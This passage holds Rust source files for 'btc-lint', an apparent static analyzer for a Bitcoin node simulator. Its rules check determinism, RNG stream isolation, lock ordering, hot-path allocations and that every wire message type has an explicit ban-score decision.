    let got: Vec<(&str, u32, &str)> = findings
        .iter()
        .map(|f| (f.file.as_str(), f.line, f.rule))
        .collect();
    assert_eq!(got, want, "full findings:\n{}", render(&findings));

    // Spot-check the cross-file messages name the missing command.
    assert!(findings
        .iter()
        .any(|f| f.message.contains("no `BAN_DECISIONS` row for \"tx\"")));
    assert!(findings
        .iter()
        .any(|f| f.message.contains("no `TIER_WEIGHTS` row for \"tx\"")));
    assert!(findings
        .iter()
        .any(|f| f.message.contains("\"tx\"") && f.file.ends_with("node.rs")));
}

fn render(findings: &[btc_lint::findings::Finding]) -> String {
    findings
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}
