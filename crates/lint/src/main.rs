//! CLI entry point: `cargo run -p btc-lint [-- --root <dir>]`.
//!
//! Prints findings as `file:line:rule: message` (one per line, sorted) and
//! exits 1 when any exist, 0 when the workspace is clean, 2 on usage errors.

use std::path::PathBuf;
use std::process::ExitCode;

fn main() -> ExitCode {
    let mut root = PathBuf::from(".");
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--root" => {
                let Some(dir) = args.next() else {
                    eprintln!("btc-lint: --root needs a directory");
                    return ExitCode::from(2);
                };
                root = PathBuf::from(dir);
            }
            "--help" | "-h" => {
                println!(
                    "usage: btc-lint [--root <workspace-dir>]\n\n\
                     Lints crates/**/*.rs for determinism, panic-safety, narrowing casts,\n\
                     and ban-rule exhaustiveness. Exits non-zero on findings."
                );
                return ExitCode::SUCCESS;
            }
            other => {
                eprintln!("btc-lint: unknown argument `{other}` (try --help)");
                return ExitCode::from(2);
            }
        }
    }

    if !root.join("crates").is_dir() {
        eprintln!(
            "btc-lint: `{}` has no crates/ directory; run from the workspace root or pass --root",
            root.display()
        );
        return ExitCode::from(2);
    }

    let findings = btc_lint::run(&root);
    for f in &findings {
        println!("{f}");
    }
    if findings.is_empty() {
        eprintln!("btc-lint: clean");
        ExitCode::SUCCESS
    } else {
        eprintln!("btc-lint: {} finding(s)", findings.len());
        ExitCode::FAILURE
    }
}
