//! CLI entry point: `cargo run -p btc-lint [-- --root <dir>] [--json]`.
//!
//! Default output prints findings as `file:line:rule: message [chain]` (one
//! per line, sorted) and exits 1 when any exist, 0 when the workspace is
//! clean, 2 on usage errors. `--json` emits a single JSON object —
//! `{"findings": [...], "callgraph": {...}}` — on stdout for machine
//! consumption (CI gates on the findings array).

use std::path::PathBuf;
use std::process::ExitCode;

fn main() -> ExitCode {
    let mut root = PathBuf::from(".");
    let mut json = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--root" => {
                let Some(dir) = args.next() else {
                    eprintln!("btc-lint: --root needs a directory");
                    return ExitCode::from(2);
                };
                root = PathBuf::from(dir);
            }
            "--json" => json = true,
            "--help" | "-h" => {
                println!(
                    "usage: btc-lint [--root <workspace-dir>] [--json]\n\n\
                     Multi-pass analyzer: lexes, parses and call-graph-links the workspace,\n\
                     then checks determinism, panic-safety, narrowing casts, score arithmetic,\n\
                     RNG stream discipline, lock ordering, ban-rule exhaustiveness and stale\n\
                     exemptions. Exits non-zero on findings.\n\n\
                     --json   emit {{\"findings\": [...], \"callgraph\": {{...}}}} on stdout"
                );
                return ExitCode::SUCCESS;
            }
            other => {
                eprintln!("btc-lint: unknown argument `{other}` (try --help)");
                return ExitCode::from(2);
            }
        }
    }

    if !root.join("crates").is_dir() {
        eprintln!(
            "btc-lint: `{}` has no crates/ directory; run from the workspace root or pass --root",
            root.display()
        );
        return ExitCode::from(2);
    }

    let analysis = btc_lint::analyze(&root);
    let findings = &analysis.findings;
    if json {
        let mut out = String::from("{\"findings\":[");
        for (i, f) in findings.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push_str(&f.to_json());
        }
        let s = analysis.stats;
        out.push_str(&format!(
            "],\"callgraph\":{{\"functions\":{},\"edges\":{},\"ambiguous\":{},\"unknown\":{}}}}}",
            s.functions, s.edges, s.ambiguous, s.unknown
        ));
        println!("{out}");
    } else {
        for f in findings {
            println!("{f}");
        }
    }
    if findings.is_empty() {
        eprintln!("btc-lint: clean");
        ExitCode::SUCCESS
    } else {
        eprintln!("btc-lint: {} finding(s)", findings.len());
        ExitCode::FAILURE
    }
}
