//! `hot-path-alloc`: no per-frame allocations or copies in the designated
//! receive-path files.
//!
//! The zero-copy receive path exists because the victim's per-frame
//! constant factor is the paper's attack surface: a `to_vec()` tail copy or
//! a `Bytes::copy_from_slice` payload clone quietly reintroduces the O(k²)
//! burst cost the refactor removed, and no functional test catches it — the
//! behaviour is identical, only slower. Flagged here: `.to_vec()`,
//! `copy_from_slice` (both the `Bytes` constructor and the slice method)
//! and `Vec::new`. Setup-time or error-path uses may be justified with
//! `lint:allow(hot-path-alloc): <reason>`.

use crate::findings::Finding;
use crate::lexer::{SourceFile, TokKind};

/// Rule name for hot-path allocation findings.
pub const HOT_PATH_ALLOC: &str = "hot-path-alloc";

/// Flags allocating/copying constructs in receive-path files.
pub fn hot_path_alloc(sf: &SourceFile, out: &mut Vec<Finding>) {
    let toks = &sf.tokens;
    for (i, t) in toks.iter().enumerate() {
        if t.kind != TokKind::Ident {
            continue;
        }
        let what = match t.text.as_str() {
            "to_vec"
                if i > 0
                    && toks[i - 1].text == "."
                    && toks.get(i + 1).map(|n| n.text.as_str()) == Some("(") =>
            {
                "`.to_vec()` copies the buffer"
            }
            "copy_from_slice" if toks.get(i + 1).map(|n| n.text.as_str()) == Some("(") => {
                "`copy_from_slice(..)` copies the payload"
            }
            "Vec"
                if toks.get(i + 1).map(|n| n.text.as_str()) == Some(":")
                    && toks.get(i + 2).map(|n| n.text.as_str()) == Some(":")
                    && toks.get(i + 3).map(|n| n.text.as_str()) == Some("new") =>
            {
                "`Vec::new()` allocates per call"
            }
            _ => continue,
        };
        if sf.in_test(t.line) {
            continue;
        }
        out.push(Finding::new(
            &sf.path,
            t.line,
            HOT_PATH_ALLOC,
            format!(
                "{what} on the steady-state receive path; use the cursor buffer / refcounted \
                 slices instead, or justify with `lint:allow(hot-path-alloc): <reason>`"
            ),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    fn run(src: &str) -> Vec<Finding> {
        let sf = lex("t.rs", src);
        let mut out = Vec::new();
        hot_path_alloc(&sf, &mut out);
        out
    }

    #[test]
    fn to_vec_call_flagged() {
        let f = run("let copy = buf[consumed..].to_vec();\n");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, HOT_PATH_ALLOC);
        assert_eq!(f[0].line, 1);
    }

    #[test]
    fn to_vec_as_plain_ident_not_flagged() {
        // A field or fn named to_vec without a call isn't a copy.
        let f = run("fn to_vec() {}\nlet x = to_vec;\n");
        assert!(f.is_empty());
    }

    #[test]
    fn copy_from_slice_flagged_both_forms() {
        let f = run(
            "let b = Bytes::copy_from_slice(payload);\nscratch.copy_from_slice(&src);\n",
        );
        assert_eq!(f.len(), 2);
    }

    #[test]
    fn vec_new_flagged_with_capacity_not() {
        let f = run("let a: Vec<u8> = Vec::new();\nlet b = Vec::with_capacity(8);\n");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].line, 1);
    }

    #[test]
    fn marker_left_to_driver() {
        // The driver suppresses marked findings and tracks marker usage for
        // the stale-exemption audit; the rule reports regardless.
        let f = run(
            "// lint:allow(hot-path-alloc): one-time setup, not per frame\nlet v = Vec::new();\n",
        );
        assert_eq!(f.len(), 1);
    }

    #[test]
    fn test_code_exempt() {
        let f = run("#[cfg(test)]\nmod tests {\n    fn f() { let v = b\"x\".to_vec(); }\n}\n");
        assert!(f.is_empty());
    }
}
