//! `rng-stream`: functions reachable from a declared RNG stream root may
//! only draw from that root's salted stream.
//!
//! Bit-identical replay holds because every consumer owns a private salted
//! `SimRng` stream (`FAULT_RNG_SALT`, `SHARD_STREAM_SALT`, …): adding or
//! removing a draw in one subsystem must not shift another subsystem's
//! sequence. A fault-path helper that quietly pulls from the host stream
//! breaks that isolation one call level deep, where the old per-file rules
//! never looked. Three checks:
//!
//! 1. **Cross-stream draws** — in any function reachable from a fn-level
//!    root in [`crate::scope::RNG_ROOTS`], a draw whose receiver is not in
//!    the root's allowed set is a finding (with the call chain).
//! 2. **Unsalted constructions** — `SimRng::new(..)` in sim-deterministic
//!    crates must mention a `*_SALT`/`salt` ident in its arguments, so every
//!    derived stream is visibly salted off the run seed.
//! 3. **Orphan streams** — a draw on a named stream receiver (`rng` or
//!    `*_rng`) outside every declared root is a finding: the stream exists
//!    but nobody declared who owns it.

use crate::findings::Finding;
use crate::lexer::TokKind;
use crate::parse::CallKind;
use crate::rules::Workspace;
use crate::scope::{self, RngRoot};
use std::collections::BTreeSet;

/// Rule name for RNG stream findings.
pub const RNG_STREAM: &str = "rng-stream";

/// Runs all three RNG-stream checks.
pub fn rng_stream(ws: &Workspace, out: &mut Vec<Finding>) {
    let whole_file_roots: Vec<&RngRoot> =
        scope::RNG_ROOTS.iter().filter(|r| r.func == "*").collect();
    let is_exempt_file =
        |rel: &str| whole_file_roots.iter().any(|r| r.file == rel);

    // Defs covered by check 1 (roots + everything reachable from them):
    // check 3 skips these so a bad draw is reported once, with its chain.
    let mut covered: BTreeSet<usize> = BTreeSet::new();

    // Check 1: cross-stream draws in root-reachable functions.
    for root in scope::RNG_ROOTS.iter().filter(|r| r.func != "*") {
        let roots: Vec<usize> = ws
            .defs_in_file(root.file)
            .into_iter()
            .filter(|&d| ws.fn_of(d).name == root.func)
            .collect();
        if roots.is_empty() {
            continue;
        }
        let parents = ws
            .graph
            .reach(&roots, &|d| is_exempt_file(ws.rel_of(d)));
        for (&d, _) in &parents {
            covered.insert(d);
            let rel = ws.rel_of(d);
            if is_exempt_file(rel) || crate::symbols::is_test_tree(rel) {
                continue;
            }
            let f = ws.fn_of(d);
            for call in &f.calls {
                let CallKind::Method { recv } = &call.kind else { continue };
                if !scope::RNG_DRAW_METHODS.contains(&call.name.as_str()) {
                    continue;
                }
                if root.allowed.contains(&recv.as_str()) {
                    continue;
                }
                let mut chain = ws.chain_from(&parents, d);
                chain.push(format!("{}.{}", recv, call.name));
                out.push(Finding::with_chain(
                    rel,
                    call.line,
                    RNG_STREAM,
                    format!(
                        "draw from `{}` inside the `{}` stream scope (only {} may be drawn \
                         here); a cross-stream draw shifts both sequences and breaks replay",
                        recv,
                        root.stream,
                        allowed_list(root.allowed),
                    ),
                    chain,
                ));
            }
        }
    }

    // Checks 2 and 3: per-file scans over the sim-deterministic crates.
    for (fi, rel) in ws.rels.iter().enumerate() {
        if !scope::in_sim_deterministic(rel)
            || crate::symbols::is_test_tree(rel)
            || is_exempt_file(rel)
        {
            continue;
        }
        for (item, f) in ws.parsed[fi].fns.iter().enumerate() {
            if f.is_test {
                continue;
            }
            let def = ws.index.def_id(fi, item);
            for call in &f.calls {
                // Check 2: unsalted SimRng::new.
                if call.name == "new" {
                    if let CallKind::Path { segments } = &call.kind {
                        if segments.last().map(String::as_str) == Some("SimRng")
                            && !args_mention_salt(ws, fi, call.tok)
                        {
                            out.push(Finding::new(
                                rel,
                                call.line,
                                RNG_STREAM,
                                "`SimRng::new(..)` without a salt: derive every stream as \
                                 `SimRng::new(seed ^ <STREAM>_SALT)` so streams stay isolated, \
                                 or justify the base stream with `lint:allow(rng-stream): <reason>`",
                            ));
                        }
                    }
                }
                // Check 3: orphan named-stream draws.
                if def.is_some_and(|d| covered.contains(&d)) {
                    continue;
                }
                let CallKind::Method { recv } = &call.kind else { continue };
                if !scope::RNG_DRAW_METHODS.contains(&call.name.as_str()) {
                    continue;
                }
                if recv == "rng" || recv.ends_with("_rng") {
                    out.push(Finding::new(
                        rel,
                        call.line,
                        RNG_STREAM,
                        format!(
                            "draw from undeclared RNG stream `{recv}`: declare an owning root \
                             in scope::RNG_ROOTS (with its salted stream), draw via `ctx.rng()`, \
                             or allowlist a non-replay stream with a reason"
                        ),
                    ));
                }
            }
        }
    }
}

fn allowed_list(allowed: &[&str]) -> String {
    allowed
        .iter()
        .map(|a| format!("`{a}`"))
        .collect::<Vec<_>>()
        .join(", ")
}

/// Whether the call's argument list (from the name token at `tok`) contains
/// an ident mentioning a salt.
fn args_mention_salt(ws: &Workspace, file: usize, tok: usize) -> bool {
    let toks = &ws.files[file].tokens;
    let mut j = tok + 1;
    // Find the opening paren (possibly past a turbofish).
    while j < toks.len() && toks[j].text != "(" {
        if toks[j].text == ";" || toks[j].text == "{" {
            return false;
        }
        j += 1;
    }
    let mut depth = 0usize;
    while j < toks.len() {
        match toks[j].text.as_str() {
            "(" => depth += 1,
            ")" => {
                depth -= 1;
                if depth == 0 {
                    return false;
                }
            }
            _ => {
                if toks[j].kind == TokKind::Ident
                    && (toks[j].text.contains("SALT") || toks[j].text.contains("salt"))
                {
                    return true;
                }
            }
        }
        j += 1;
    }
    false
}
