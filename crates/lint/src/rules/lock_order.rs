//! `lock-order`: Mutex acquisitions in the lock-scope files must follow the
//! declared total order in [`crate::scope::LOCK_ORDER`].
//!
//! The work-stealing pool and the sharded simulator both hold locks across
//! real work (a region lock spans a whole event window); a second lock
//! acquired in the wrong order — directly, or through a callee — is a
//! deadlock that no single-threaded test reproduces. The rule:
//!
//! * maps every `.lock()` receiver to a declared lock name (an undeclared
//!   receiver in a scope file is itself a finding — every lock needs a
//!   rank);
//! * estimates the guard's live span: `let`-bound guards live to the end of
//!   their enclosing block, temporaries to the end of their statement
//!   (approximated conservatively; see DESIGN.md §16 for the known limits);
//! * adds an acquired-while-holding edge for every acquisition (direct, or
//!   via the transitive lock summary of a resolved callee) inside a live
//!   span, and flags edges that go backwards (or sideways) in the declared
//!   order.

use crate::findings::Finding;
use crate::lexer::SourceFile;
use crate::parse::CallKind;
use crate::rules::Workspace;
use crate::scope;
use std::collections::BTreeMap;

/// Rule name for lock-order findings.
pub const LOCK_ORDER: &str = "lock-order";

/// One `.lock()` acquisition in a scope file.
struct Acq {
    /// Token index of the `lock` name token.
    tok: usize,
    /// 1-based line.
    line: u32,
    /// Rank in `scope::LOCK_ORDER`.
    rank: usize,
    /// Exclusive token index the guard is (conservatively) live until.
    span_end: usize,
}

/// Runs the lock-order analysis over the scope files.
pub fn lock_order(ws: &Workspace, out: &mut Vec<Finding>) {
    // Transitive lock summaries: def id → bitmask of LOCK_ORDER ranks the
    // def may acquire (directly or through resolved callees).
    let summaries = lock_summaries(ws);

    for &scope_file in scope::LOCK_SCOPE_FILES {
        let Some(fi) = ws.file_idx(scope_file) else { continue };
        let sf = &ws.files[fi];
        let mut acqs: Vec<Acq> = Vec::new();

        for (item, f) in ws.parsed[fi].fns.iter().enumerate() {
            if f.is_test {
                continue;
            }
            let def = ws.index.def_id(fi, item);
            // Direct acquisitions in this fn.
            for call in &f.calls {
                if call.name != "lock" {
                    continue;
                }
                let CallKind::Method { recv } = &call.kind else { continue };
                if sf.in_test(call.line) {
                    continue;
                }
                let Some(rank) = declared_rank(scope_file, recv) else {
                    out.push(Finding::new(
                        scope_file,
                        call.line,
                        LOCK_ORDER,
                        format!(
                            "`.lock()` on undeclared receiver `{recv}`: every Mutex in a \
                             lock-scope file needs an identity and rank in scope::LOCK_DECLS"
                        ),
                    ));
                    continue;
                };
                let span_end = guard_span_end(sf, call.tok);
                acqs.push(Acq { tok: call.tok, line: call.line, rank, span_end });
            }

            // Edges: for each acquisition, anything acquired inside its span.
            let _ = def;
            for call in &f.calls {
                // Interprocedural: a call inside a held span pulls in the
                // callee's transitive lock summary.
                let Some(callee) = resolve_for_summary(ws, fi, f, call) else { continue };
                let mask = summaries.get(&callee).copied().unwrap_or(0);
                if mask == 0 {
                    continue;
                }
                for held in acqs.iter().filter(|a| a.tok < call.tok && call.tok < a.span_end) {
                    for rank in 0..scope::LOCK_ORDER.len() {
                        if mask & (1 << rank) == 0 {
                            continue;
                        }
                        check_edge(scope_file, held, rank, call.line, Some(ws.label(callee)), out);
                    }
                }
            }
        }

        // Direct acquired-while-holding edges (across the file's token
        // stream; spans never cross fn bodies in practice).
        for b in &acqs {
            for a in acqs.iter().filter(|a| a.tok < b.tok && b.tok < a.span_end) {
                check_edge(scope_file, a, b.rank, b.line, None, out);
            }
        }
    }
}

fn check_edge(
    file: &str,
    held: &Acq,
    acquired_rank: usize,
    line: u32,
    via: Option<String>,
    out: &mut Vec<Finding>,
) {
    if acquired_rank > held.rank {
        return; // forward in the declared order: fine
    }
    let held_name = scope::LOCK_ORDER[held.rank];
    let acq_name = scope::LOCK_ORDER[acquired_rank];
    let how = match &via {
        Some(callee) => format!("via `{callee}` "),
        None => String::new(),
    };
    let what = if acquired_rank == held.rank {
        format!("`{acq_name}` re-acquired {how}while already held (self-deadlock risk)")
    } else {
        format!(
            "`{acq_name}` acquired {how}while holding `{held_name}` — against the declared \
             order ({acq_name} ranks before {held_name} in scope::LOCK_ORDER)"
        )
    };
    out.push(Finding::new(
        file,
        line,
        LOCK_ORDER,
        format!("{what}; release first or swap the acquisitions"),
    ));
}

/// Rank of the lock declared for `(file, recv)`, if any.
fn declared_rank(file: &str, recv: &str) -> Option<usize> {
    let decl = scope::LOCK_DECLS
        .iter()
        .find(|d| d.file == file && d.recvs.contains(&recv))?;
    scope::LOCK_ORDER.iter().position(|&l| l == decl.lock)
}

/// Conservative end (exclusive token index) of the guard obtained by the
/// `.lock()` whose name token sits at `tok`.
///
/// * Statement starts with `let` → the binding lives to the end of the
///   innermost enclosing block.
/// * Anything else (temporary, `if let`/`while let` condition, match
///   scrutinee) → the end of the statement: the first `;` at relative brace
///   depth 0, or the `}` that closes a brace opened inside the statement
///   (the body of an `if let`), or the `}` closing the enclosing block.
fn guard_span_end(sf: &SourceFile, tok: usize) -> usize {
    let toks = &sf.tokens;
    // Statement start: walk back to the nearest `;`, `{` or `}`.
    let mut s = tok;
    while s > 0 && !matches!(toks[s - 1].text.as_str(), ";" | "{" | "}") {
        s -= 1;
    }
    let let_bound = toks.get(s).map(|t| t.text.as_str()) == Some("let");

    if let_bound {
        // Innermost enclosing block end: matching `}` for the last
        // unmatched `{` before `tok`.
        let mut depth = 0i64;
        let mut j = tok;
        while j < toks.len() {
            match toks[j].text.as_str() {
                "{" => depth += 1,
                "}" => {
                    if depth == 0 {
                        return j;
                    }
                    depth -= 1;
                }
                _ => {}
            }
            j += 1;
        }
        return toks.len();
    }

    // Temporary: end of statement.
    let mut depth = 0i64;
    let mut j = tok;
    while j < toks.len() {
        match toks[j].text.as_str() {
            ";" if depth == 0 => return j,
            "{" => depth += 1,
            "}" => {
                if depth == 0 {
                    return j; // enclosing block closed
                }
                depth -= 1;
                if depth == 0 {
                    // A block opened inside this statement closed (e.g. the
                    // body of an `if let`); the temporary dies here unless
                    // an `else` continues the statement.
                    if toks.get(j + 1).map(|t| t.text.as_str()) != Some("else") {
                        return j;
                    }
                }
            }
            _ => {}
        }
        j += 1;
    }
    toks.len()
}

/// Transitive lock summaries: def id → bitmask of acquirable ranks.
fn lock_summaries(ws: &Workspace) -> BTreeMap<usize, u64> {
    let mut mask: BTreeMap<usize, u64> = BTreeMap::new();
    // Direct acquisitions.
    for &scope_file in scope::LOCK_SCOPE_FILES {
        let Some(fi) = ws.file_idx(scope_file) else { continue };
        for (item, f) in ws.parsed[fi].fns.iter().enumerate() {
            if f.is_test {
                continue;
            }
            let Some(def) = ws.index.def_id(fi, item) else { continue };
            let mut m = 0u64;
            for call in &f.calls {
                if call.name != "lock" {
                    continue;
                }
                if let CallKind::Method { recv } = &call.kind {
                    if let Some(rank) = declared_rank(scope_file, recv) {
                        m |= 1 << rank;
                    }
                }
            }
            if m != 0 {
                mask.insert(def, m);
            }
        }
    }
    // Propagate backwards along call edges to a fixpoint (the graph is
    // small; a handful of rounds suffice and the loop is bounded).
    for _ in 0..ws.graph.edges.len().max(8) {
        let mut changed = false;
        for (caller, outs) in ws.graph.edges.iter().enumerate() {
            let mut m = mask.get(&caller).copied().unwrap_or(0);
            let before = m;
            for e in outs {
                m |= mask.get(&e.callee).copied().unwrap_or(0);
            }
            if m != before {
                mask.insert(caller, m);
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
    mask
}

/// Resolves `call` the same way the graph builder does, but only returning
/// callees that have a lock summary worth checking. The receiver-`lock`
/// acquisition itself (same token) is excluded by the caller's span check
/// (`a.tok < call.tok`).
fn resolve_for_summary(
    ws: &Workspace,
    caller_file: usize,
    caller: &crate::parse::FnItem,
    call: &crate::parse::Call,
) -> Option<usize> {
    // Reuse the already-built graph: find the edge whose line and callee
    // match this call. Cheaper than re-resolving, and guaranteed
    // consistent.
    let item = ws.parsed[caller_file]
        .fns
        .iter()
        .position(|f| std::ptr::eq(f, caller))?;
    let def = ws.index.def_id(caller_file, item)?;
    ws.graph.edges[def]
        .iter()
        .find(|e| {
            e.line == call.line && ws.fn_of(e.callee).name == call.name
        })
        .map(|e| e.callee)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    #[test]
    fn guard_spans() {
        // let-bound: lives to the enclosing block's `}`.
        let sf = lex("t.rs", "fn f() { let g = m.lock(); work(); }\n");
        let lock_tok = sf.tokens.iter().position(|t| t.text == "lock").unwrap();
        let end = guard_span_end(&sf, lock_tok);
        assert_eq!(sf.tokens[end].text, "}");

        // temporary: dies at the `;`.
        let sf = lex("t.rs", "fn f() { m.lock().push(1); other.lock(); }\n");
        let lock_tok = sf.tokens.iter().position(|t| t.text == "lock").unwrap();
        let end = guard_span_end(&sf, lock_tok);
        assert_eq!(sf.tokens[end].text, ";");

        // if-let condition: dies when the if body closes.
        let sf = lex(
            "t.rs",
            "fn f() { if let Some(t) = q.lock().pop() { use_it(t); } q2.lock(); }\n",
        );
        let lock_tok = sf.tokens.iter().position(|t| t.text == "lock").unwrap();
        let end = guard_span_end(&sf, lock_tok);
        let q2 = sf.tokens.iter().rposition(|t| t.text == "lock").unwrap();
        assert!(end < q2, "if-let guard must not cover the next statement");

        // inner-block let: dies at the inner `}`.
        let sf = lex(
            "t.rs",
            "fn f() { let mail = { let g = src.lock(); take(g) }; dst.lock(); }\n",
        );
        let lock_tok = sf.tokens.iter().position(|t| t.text == "lock").unwrap();
        let end = guard_span_end(&sf, lock_tok);
        let dst = sf.tokens.iter().rposition(|t| t.text == "lock").unwrap();
        assert!(end < dst, "inner-block guard must not cover the sibling lock");
    }
}
