//! Determinism rules.
//!
//! `wallclock`: no `Instant::now` / `SystemTime::now` / `RandomState`
//! anywhere in the workspace outside the file-allowlisted wall-clock
//! measurement modules. Simulator time comes from the event loop, randomness
//! from the seeded `SimRng`; a stray wall-clock read makes runs
//! unreproducible in a way no test reliably catches.
//!
//! `unordered-map`: no `HashMap`/`HashSet` in sim-deterministic crates.
//! Default-hasher iteration order depends on a per-process `RandomState`, so
//! any iteration that reaches simulation output breaks the jobs-matrix
//! byte-equality contract. Membership-only uses may stay, justified with
//! `lint:allow(unordered-map): <reason>` on (or above) the line.

use crate::findings::Finding;
use crate::lexer::{SourceFile, TokKind};

/// Rule name for wall-clock findings.
pub const WALLCLOCK: &str = "wallclock";
/// Rule name for unordered-map findings.
pub const UNORDERED_MAP: &str = "unordered-map";

/// Flags wall-clock time and hasher-randomness sources.
pub fn wallclock(sf: &SourceFile, out: &mut Vec<Finding>) {
    let toks = &sf.tokens;
    for (i, t) in toks.iter().enumerate() {
        if t.kind != TokKind::Ident {
            continue;
        }
        let flagged = match t.text.as_str() {
            "Instant" | "SystemTime" => {
                toks.get(i + 1).map(|a| a.text.as_str()) == Some(":")
                    && toks.get(i + 2).map(|a| a.text.as_str()) == Some(":")
                    && toks.get(i + 3).map(|a| a.text.as_str()) == Some("now")
            }
            "RandomState" => true,
            _ => false,
        };
        if !flagged || sf.in_test(t.line) {
            continue;
        }
        let what = if t.text == "RandomState" {
            "`RandomState` (per-process hasher seed)".to_owned()
        } else {
            format!("`{}::now()`", t.text)
        };
        out.push(Finding::new(
            &sf.path,
            t.line,
            WALLCLOCK,
            format!(
                "{what} breaks run-to-run reproducibility; use simulator time / the seeded RNG, \
                 or allowlist the file in crates/lint/lint-allow.txt"
            ),
        ));
    }
}

/// Flags default-hasher collections in sim-deterministic crates.
pub fn unordered_map(sf: &SourceFile, out: &mut Vec<Finding>) {
    for t in &sf.tokens {
        if t.kind != TokKind::Ident || (t.text != "HashMap" && t.text != "HashSet") {
            continue;
        }
        if sf.in_test(t.line) {
            continue;
        }
        out.push(Finding::new(
            &sf.path,
            t.line,
            UNORDERED_MAP,
            format!(
                "`{}` iteration order is nondeterministic; use BTreeMap/BTreeSet or a sorted Vec, \
                 or justify a membership-only use with `lint:allow(unordered-map): <reason>`",
                t.text
            ),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    fn run(rule: fn(&SourceFile, &mut Vec<Finding>), src: &str) -> Vec<Finding> {
        let sf = lex("t.rs", src);
        let mut out = Vec::new();
        rule(&sf, &mut out);
        out
    }

    #[test]
    fn instant_now_flagged() {
        let f = run(wallclock, "let t = Instant::now();\n");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, WALLCLOCK);
        assert_eq!(f[0].line, 1);
    }

    #[test]
    fn instant_elapsed_not_flagged() {
        // Only the `::now` read is a determinism leak; Instant as a type
        // (e.g. in a struct passed in from the harness) is not.
        let f = run(wallclock, "fn f(t: Instant) -> Instant { t }\n");
        assert!(f.is_empty());
    }

    #[test]
    fn systemtime_and_randomstate_flagged() {
        let f = run(
            wallclock,
            "let a = SystemTime::now();\nlet b: RandomState = RandomState::new();\n",
        );
        assert_eq!(f.len(), 3);
    }

    #[test]
    fn hashmap_flagged_hash_in_comment_not() {
        let f = run(unordered_map, "// HashMap here is fine\nuse std::collections::HashMap;\n");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].line, 2);
    }

    #[test]
    fn marker_left_to_driver() {
        // Suppression-by-marker happens in the driver so marker usage can
        // feed the stale-exemption audit; the rule reports regardless.
        let f = run(
            unordered_map,
            "// lint:allow(unordered-map): membership only, never iterated\nlet s: HashSet<u16> = HashSet::new();\n",
        );
        assert_eq!(f.len(), 2);
    }

    #[test]
    fn test_code_exempt() {
        let f = run(
            unordered_map,
            "#[cfg(test)]\nmod tests {\n    use std::collections::HashMap;\n}\n",
        );
        assert!(f.is_empty());
    }
}
