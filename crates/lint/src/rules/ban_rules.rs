//! `ban-exhaustive`: every wire message type must carry an explicit
//! per-version ban decision, and the node must dispatch on it.
//!
//! The paper's first BM-DoS vector exists because 14 of 26 message types
//! have *no* ban-score rule — an omission, not a decision. This rule makes
//! the omission impossible to repeat silently by cross-checking three
//! sources that must agree:
//!
//! 1. `ALL_COMMANDS` in `crates/wire/src/message.rs` — the 26 wire commands;
//! 2. `BAN_DECISIONS` in `crates/node/src/banscore/rules.rs` — one explicit
//!    `[0.20, 0.21, 0.22]` decision row per command;
//! 3. the `Message::…` match arms in `crates/node/src/node.rs` — every
//!    command must be dispatched somewhere in the handler.
//!
//! The trust-tier engine adds a fourth table to the same file:
//! `TIER_WEIGHTS` must carry one explicit weight class per command, so a
//! new wire command cannot silently enter the reputation ladder unweighted
//! (the same omission-by-default the paper found in the stock ruleset).
//!
//! The check is textual (token-level); the semantic half — that
//! `BAN_DECISIONS` agrees with `Misbehavior::penalty` — is a unit test next
//! to the table itself.

use crate::findings::Finding;
use crate::lexer::{SourceFile, TokKind};

/// Rule name for ban-exhaustiveness findings.
pub const BAN_EXHAUSTIVE: &str = "ban-exhaustive";

/// Decision variant names accepted in a `BAN_DECISIONS` row.
const DECISION_NAMES: &[&str] = &["Penalize", "Tolerate"];

/// Weight-class variant names accepted in a `TIER_WEIGHTS` row.
const WEIGHT_NAMES: &[&str] = &["Severe", "Moderate", "Light", "Neutral"];

/// One parsed `(command, decisions)` row.
struct DecisionRow {
    command: String,
    decisions: Vec<String>,
    line: u32,
}

/// Cross-checks the three sources. `message_sf`/`rules_sf`/`node_sf` are the
/// lexed `message.rs`, `banscore/rules.rs`, and `node.rs`.
pub fn ban_exhaustive(
    message_sf: &SourceFile,
    rules_sf: &SourceFile,
    node_sf: &SourceFile,
    out: &mut Vec<Finding>,
) {
    let commands = extract_str_array(message_sf, "ALL_COMMANDS");
    let Some((commands, cmd_line)) = commands else {
        out.push(Finding::new(
            &message_sf.path,
            1,
            BAN_EXHAUSTIVE,
            "could not locate the `ALL_COMMANDS` array; the ban-decision cross-check needs it",
        ));
        return;
    };

    let rows = extract_decision_rows(rules_sf);
    let Some((rows, table_line)) = rows else {
        out.push(Finding::new(
            &rules_sf.path,
            1,
            BAN_EXHAUSTIVE,
            "could not locate the `BAN_DECISIONS` table; every wire command needs an explicit \
             per-version ban decision (Table I)",
        ));
        return;
    };

    // Rows must be well-formed: known command, three known decisions, no
    // duplicates.
    let mut seen: Vec<&str> = Vec::new();
    for row in &rows {
        if !commands.contains(&row.command) {
            out.push(Finding::new(
                &rules_sf.path,
                row.line,
                BAN_EXHAUSTIVE,
                format!(
                    "`BAN_DECISIONS` row for unknown command \"{}\" (not in ALL_COMMANDS)",
                    row.command
                ),
            ));
        }
        if seen.contains(&row.command.as_str()) {
            out.push(Finding::new(
                &rules_sf.path,
                row.line,
                BAN_EXHAUSTIVE,
                format!("duplicate `BAN_DECISIONS` row for \"{}\"", row.command),
            ));
        }
        seen.push(&row.command);
        if row.decisions.len() != 3 {
            out.push(Finding::new(
                &rules_sf.path,
                row.line,
                BAN_EXHAUSTIVE,
                format!(
                    "`BAN_DECISIONS` row for \"{}\" has {} decisions; need exactly 3 \
                     (0.20, 0.21, 0.22)",
                    row.command,
                    row.decisions.len()
                ),
            ));
        }
        for d in &row.decisions {
            if !DECISION_NAMES.contains(&d.as_str()) {
                out.push(Finding::new(
